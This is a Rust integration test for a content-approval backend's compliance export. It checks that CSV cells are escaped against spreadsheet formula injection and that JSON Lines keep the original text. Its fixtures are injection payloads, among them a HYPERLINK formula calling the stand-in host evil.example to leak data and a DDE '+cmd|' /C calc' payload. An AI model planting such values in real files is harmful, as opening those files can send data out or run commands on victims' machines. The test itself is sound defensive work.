//! The compliance export an auditor opens in a spreadsheet: every text cell that a
//! spreadsheet would run as a formula is neutralised (OWASP's CSV-injection rule), in
//! each free-text column; JSON Lines keep the text as recorded.

use chorus_tests::{backend_tests, docs, expect_data, spawn_app, TestBackend};
use serde_json::{json, Value};

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak\",\"open\")";

async fn act(client: &chorus_client::ChorusClient, doc: &str, input: Value) -> Value {
    expect_data(client, doc, json!({ "input": input }), doc).await
}

async fn export(app: &chorus_tests::TestApp, format: &str) -> String {
    let from = "2000-01-01T00:00:00Z";
    let to = (chrono::Utc::now() + chrono::TimeDelta::hours(1))
        .to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
    let response = reqwest::Client::new()
        .get(format!(
            "{}/export/compliance?from={from}&to={to}&format={format}",
            app.address
        ))
        .bearer_auth(&app.admin_token)
        .send()
        .await
        .expect("export");
    assert_eq!(response.status(), 200);
    response.text().await.expect("export body")
}

backend_tests! {
    async fn compliance_csv_cells_cannot_run_as_formulas(backend: TestBackend) {
        let app = spawn_app(backend).await;
        let w = app.content_world().await;
        act(
            &w.legal.client,
            docs::DEFINE_APPROVAL_POLICY,
            json!({ "scope": { "kind": "ORGANIZATION" }, "steps": [
                { "name": "=calc", "signers": [{ "function": "SOCIAL_MEDIA" }] }
            ] }),
        )
        .await;
        let mut posts = Vec::new();
        for text in ["First", "Second"] {
            let drafted = act(
                &w.author.client,
                docs::DRAFT_POST,
                json!({ "channelIds": [w.channel], "text": text }),
            )
            .await;
            let id = drafted["draftPost"]["post"]["id"]
                .as_str()
                .expect("id")
                .to_owned();
            act(&w.author.client, docs::SUBMIT_POST, json!({ "postId": id })).await;
            posts.push(id);
        }
        // Comments (approvals and rejections), the step name, legal notes and subject
        // references: every free-text column of the export.
        act(
            &w.manager1.client,
            docs::APPROVE_POST,
            json!({ "postId": posts[0], "comment": FORMULA }),
        )
        .await;
        act(
            &w.manager1.client,
            docs::REJECT_POST,
            json!({ "postId": posts[1], "comment": "+cmd|' /C calc'!A0" }),
        )
        .await;
        act(
            &w.legal.client,
            docs::LOG_LEGAL_REVIEW,
            json!({ "subjectKind": "CONTRACT", "subjectReference": "@SUM(A1:A9)", "kind": "CONTRACT",
                    "outcome": "CLEARED", "notes": "-2+3\tvoid" }),
        )
        .await;

        let csv = export(&app, "csv").await;
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let headers = reader.headers().expect("header").clone();
        let mut cells = Vec::new();
        for record in reader.records() {
            let record = record.expect("a CSV record");
            for (column, cell) in headers.iter().zip(record.iter()) {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "[{backend:?}] {column} would run as a formula: {cell:?}"
                );
                cells.push((column.to_owned(), cell.to_owned()));
            }
        }
        for (column, expected) in [
            ("comment", format!("'{FORMULA}")),
            ("comment", "'+cmd|' /C calc'!A0".to_owned()),
            ("comment", "'-2+3\tvoid".to_owned()),
            ("step", "'=calc".to_owned()),
            ("subject_reference", "'@SUM(A1:A9)".to_owned()),
        ] {
            assert!(
                cells.contains(&(column.to_owned(), expected.clone())),
                "[{backend:?}] {column} {expected:?} in {cells:?}"
            );
        }
        let jsonl = export(&app, "jsonl").await;
        assert!(
            jsonl.lines().any(|line| {
                serde_json::from_str::<Value>(line).expect("JSON line")["comment"] == FORMULA
            }),
            "[{backend:?}] JSON Lines keep the text as recorded"
        );
        app.stop().await;
    }
}
